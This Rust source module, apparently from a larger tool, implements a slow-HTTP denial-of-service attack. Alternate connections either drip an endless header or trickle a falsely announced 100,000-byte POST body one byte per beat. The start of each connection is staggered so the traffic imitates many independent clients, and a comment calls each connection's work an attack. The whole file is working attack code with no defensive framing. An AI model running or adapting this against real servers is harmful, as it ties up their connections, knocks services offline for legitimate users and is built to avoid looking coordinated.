//! Connections that send a byte a second: every other one the head of a request, the others a body.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Instant, MissedTickBehavior, interval_at};

use super::socket::{connect, is_cut};
use super::{BEAT, Counters, Order};

/// More than a byte a second brings together while anybody watches.
pub(super) const ANNOUNCED: usize = 100_000;

/// Attacks on one connection, for as long as it holds.
pub(super) async fn once(order: &Order, counters: &Arc<Counters>, nth: u16) -> io::Result<()> {
    let mut stream = connect(&order.base).await?;
    // Spread over the beat: thousands of strangers do not send in step.
    let phase = BEAT * u32::from(nth) / u32::from(order.connections.max(1));
    let target = order.target();
    let host = order.base.authority();
    if nth.is_multiple_of(2) {
        let head = format!("GET {target}?offset=-1 HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
        let bytes = head.into_bytes().into_iter().chain(std::iter::repeat(b'a'));
        trickle(&mut stream, counters, phase, bytes).await
    } else {
        let head = format!(
            "POST {target} HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\nContent-Length: {ANNOUNCED}\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).await?;
        trickle(&mut stream, counters, phase, std::iter::repeat_n(b'x', ANNOUNCED)).await
    }
}

async fn trickle(
    stream: &mut TcpStream,
    counters: &Arc<Counters>,
    phase: Duration,
    bytes: impl Iterator<Item = u8>,
) -> io::Result<()> {
    let _held = counters.hold();
    let mut beat = interval_at(Instant::now() + phase, BEAT);
    beat.set_missed_tick_behavior(MissedTickBehavior::Delay);
    for byte in bytes {
        beat.tick().await;
        if is_cut(stream) {
            return Ok(());
        }
        stream.write_all(&[byte]).await?;
        counters.bytes.fetch_add(1, Ordering::Relaxed);
    }
    Ok(())
}
